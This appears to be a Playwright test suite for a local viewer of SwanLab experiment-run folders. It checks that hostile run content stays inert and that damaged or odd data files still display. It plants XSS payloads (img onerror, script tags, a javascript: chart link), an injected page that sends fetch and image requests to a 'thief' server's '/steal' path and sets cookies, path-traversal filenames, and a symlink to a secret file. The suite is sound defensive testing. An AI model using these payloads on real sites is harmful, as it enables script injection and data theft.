"""A run folder that somebody else has made: what is in it is shown, and does nothing."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import expect
from swanlab.proto.swanlab.record.v1.record_pb2 import Record
from swanlab.sdk.internal.core_python.store import DataStoreWriter

from compat_tests.view.conftest import Look

pytestmark = pytest.mark.live
ATTACK = "<img src=x onerror=\"parent.hacked=window.hacked='yes'\"><script>window.hacked = 'yes'</script>"


class Store:
    """A run folder, record by record."""

    def __init__(self, folder: Path, name: str = "run") -> None:
        self.dir = folder / "swanlog" / f"run-20260101_000000-{name}"
        (self.dir / "files").mkdir(parents=True)
        self._writer = DataStoreWriter()
        self._writer.open(self.dir / f"run-{name}.swanlab")
        started = Record(num=-1)
        started.start.name, started.start.project, started.start.id = ATTACK, ATTACK, name
        started.start.description = ATTACK
        started.start.started_at.seconds = 1_790_000_000
        self.write(started)

    def write(self, record: Record) -> None:
        self.write_bytes(record.SerializeToString())

    def write_bytes(self, record: bytes) -> None:
        self._writer.write(record)

    def column(self, key: str, kind: int) -> None:
        record = Record(num=1)
        record.column.column_class, record.column.column_type, record.column.column_key = 1, kind, key
        self.write(record)

    def media(self, key: str, kind: int, *files: str, caption: str = "") -> None:
        self.column(key, kind)
        record = Record(num=2)
        record.media.key, record.media.step, record.media.type = key, 3, kind
        for name in files:
            record.media.value.items.add(filename=name, caption=caption)
        self.write(record)

    def file(self, kind: str, name: str, text: str) -> str:
        file = self.dir / "media" / kind / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, "utf-8")
        return name

    def scalar(self, key: str, step: int, value: float, seconds: int = 1_790_000_000) -> None:
        record = Record(num=3)
        point = record.scalar
        point.key, point.step, point.type, point.value.number = key, step, 1, value
        point.timestamp.seconds = seconds
        self.write(record)

    def line(self, text: str) -> None:
        record = Record(num=4)
        record.log.line = text
        self.write(record)

    def close(self) -> None:
        self._writer.close()


IMAGE, TEXT, ECHARTS, OBJECT3D, HTML = 2, 4, 6, 7, 9
"""SwanLab's `ColumnType`."""


@pytest.fixture
def thief() -> Iterator[tuple[str, list[str]]]:
    """The address of somebody's server, and what it was asked for."""
    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
        server.shutdown()


def test_nothing_that_a_run_holds_is_run(look: Look, thief: tuple[str, list[str]], tmp_path: Path) -> None:
    elsewhere, stolen = thief
    (tmp_path / "secret.txt").write_text("a secret")
    store = Store(tmp_path / "work")
    for step in range(3):
        store.scalar(ATTACK, step, step)
    store.media("text", TEXT, store.file("text", "3-a.txt", ATTACK), caption=ATTACK)
    store.media("up", TEXT, "../../../../../secret.txt")
    store.media(
        "image",
        IMAGE,
        "../../../../../secret.txt",
        store.file("image", "3-a.svg", f"<svg xmlns='http://www.w3.org/2000/svg'>{ATTACK}</svg>"),
        caption=ATTACK,
    )
    chart = {
        "title": {"text": ATTACK, "link": "javascript:window.hacked='yes'", "target": "self"},
        "tooltip": {"trigger": "item", "formatter": ATTACK, "alwaysShowContent": True, "renderMode": "html"},
        "toolbox": {"feature": {"dataView": {"title": ATTACK}}},
        "xAxis": {"type": "category", "data": [ATTACK]},
        "yAxis": {},
        "series": [{"type": "bar", "data": [1], "tooltip": {"formatter": ATTACK}}],
    }
    store.media("chart", ECHARTS, store.file("echarts", "3-a.json", json.dumps(chart)))
    table = {"_swanLab": "table", "colDefs": [{"field": ATTACK}], "rowData": [{ATTACK: ATTACK}]}
    store.media("table", ECHARTS, store.file("echarts", "3-b.json", json.dumps(table)))
    store.media("broken", ECHARTS, store.file("echarts", "3-c.json", "{"))
    store.media("space", OBJECT3D, store.file("object3d", "3-d.swanlab.pts.json", '{"points": [["a"], null]}'))
    page = f"""{ATTACK}<p id=here>here</p><script>
        try {{ top.hacked = 'yes'; }} catch (error) {{}}
        try {{ document.cookie = 'a=b'; parent.document.title = 'hacked'; }} catch (error) {{}}
        fetch('/api/runs').catch(() => {{}}); fetch('{elsewhere}/steal').catch(() => {{}});
        new Image().src = '{elsewhere}/steal';
        try {{ top.location = '{elsewhere}/gone'; }} catch (error) {{}}
    </script>"""
    store.media("page", HTML, store.file("html", "3-e.html", page))
    store.line(f"\x1b[31m{ATTACK}\x1b[0m")
    store.close()
    (store.dir / "files" / "config.yaml").write_text(json.dumps({ATTACK: {"value": ATTACK}}))
    (store.dir / "files" / "away.txt").symlink_to(tmp_path / "secret.txt")
    (store.dir / "files" / "evil.html").write_text(ATTACK)

    looked = look(tmp_path / "work", "swanlog")
    looked.page.evaluate("window.hacked = 'no'")
    for key in ("text", "up", "image", "chart", "table", "broken", "space", "page"):
        looked.card(key)
    expect(looked.card("text").locator("pre")).to_have_text(ATTACK)
    expect(looked.card("table").locator("tbody td")).to_have_text(ATTACK)
    expect(looked.card("up")).to_contain_text("is not in the run folder")
    expect(looked.card("broken")).to_contain_text("is no JSON")
    expect(looked.card("space")).to_contain_text("3-d.swanlab.pts.json")
    expect(looked.card("page").frame_locator("iframe").locator("#here")).to_have_text("here")
    plot = looked.card("chart").locator("canvas").first
    expect(plot).to_be_visible()
    box = plot.bounding_box()
    assert box is not None
    looked.page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    looked.page.mouse.click(box["x"] + 30, box["y"] + 12)
    for tab in ("Console", "Config", "Summary", "Files", "Run"):
        looked.tab(tab)
        expect(looked.page.locator("main")).to_contain_text("onerror" if tab != "Files" else "evil.html")
    assert looked.page.evaluate("window.hacked") == "no"
    assert looked.page.evaluate("document.title") != "hacked" and looked.page.url.startswith("http://127.0.0.1")
    assert not stolen
    body = looked.page.evaluate("fetch('file/r0/files/away.txt').then(answer => answer.status)")
    assert body == 404


def test_torn_damaged_and_odd_stores_are_shown_as_far_as_they_go(look: Look, tmp_path: Path) -> None:
    work = tmp_path / "work"
    torn = Store(work, "torn")
    for step in range(5000):
        torn.scalar("loss", step, step / 5000, 1_790_000_000 + step)
    torn.close()
    file = next(torn.dir.glob("*.swanlab"))
    file.write_bytes(file.read_bytes()[:-20])
    damaged = Store(work, "damaged")
    for step in range(5000):
        damaged.scalar("loss", step, step)
    damaged.close()
    file = next(damaged.dir.glob("*.swanlab"))
    content = bytearray(file.read_bytes())
    content[len(content) // 2] ^= 0xFF
    file.write_bytes(content)
    odd = Store(work, "odd")
    for step, value in enumerate([1.0, float("inf"), float("-inf"), float("nan"), 1e308, -0.0, 5e-324]):
        odd.scalar("x" * 200, step * 2**40 - 5, value, seconds=-5)
        odd.scalar("键\x01\n", step, value, seconds=0)
        odd.scalar("long " + "键" * 100, step, 0.0)
    odd.close()
    empty = work / "swanlog" / "run-20260101_000000-empty"
    empty.mkdir()
    (empty / "run-empty.swanlab").touch()

    looked = look(work, "swanlog")
    expect(looked.page.locator(".run", has_text="reading")).to_have_count(0)
    assert "is damaged at byte" in looked.page.locator(".run", has_text="damaged at").inner_text()
    heads = looked.page.evaluate("fetch('api/runs').then(answer => answer.json())")["runs"]
    points = {Path(head["folder"]).name.split("-")[-1]: head.get("points") for head in heads}
    assert (
        points["torn"] == 4999 and 0 < points["damaged"] < 5000 and points["odd"] == 21 and points["empty"] in (0, None)
    )
    (number,) = (head["id"] for head in heads if head["folder"].endswith("odd"))
    detail = looked.page.evaluate(f"fetch('api/runs/{number}').then(answer => answer.json())")
    steps = {column["key"]: (column["first"], column["last"], column["odd"]) for column in detail["columns"]}
    assert steps["x" * 200] == (-5, 6 * 2**40 - 5, 3) and steps["键\x01\n"] == (0, 6, 3)
    assert not looked.complaints


def test_what_the_machine_did_has_a_tab_of_its_own(look: Look, tmp_path: Path) -> None:
    store = Store(tmp_path / "work")
    for step in range(4):
        for at, key in enumerate(("loss", "system/gpu.0.temp", "__swanlab__.cpu.pct")):
            store.scalar(key, step, 10.0 * at + step, 1_790_000_000 + step)
    store.close()
    looked = look(tmp_path / "work", "swanlog")
    expect(looked.page.locator("[data-key]")).to_have_count(1)
    looked.tab("System")
    expect(looked.page.locator("[data-key]")).to_have_count(2)
    plot = looked.card("__swanlab__.cpu.pct").locator(".plot")
    expect(plot).to_have_attribute("aria-label", re.compile("4 points, from 20 to 23, last 23"))


def test_a_key_that_is_no_text_hides_nothing_else(look: Look, tmp_path: Path) -> None:
    store = Store(tmp_path / "work")
    store.scalar("before", 1, 1.0)
    point = Record(num=3)
    point.timestamp.seconds, point.timestamp.nanos = 1_790_000_000, 5
    point.scalar.key, point.scalar.step, point.scalar.type, point.scalar.value.number = "abc", 1, 1, 2.0
    point.scalar.timestamp.seconds, point.scalar.timestamp.nanos = 1_790_000_000, 5
    store.write_bytes(point.SerializeToString().replace(b"abc", b"a\xffc"))
    store.scalar("behind", 1, 3.0)
    store.close()
    looked = look(tmp_path / "work", "swanlog")
    for key in ("before", "a\ufffdc", "behind"):
        expect(looked.card(key).locator("canvas")).to_be_visible()
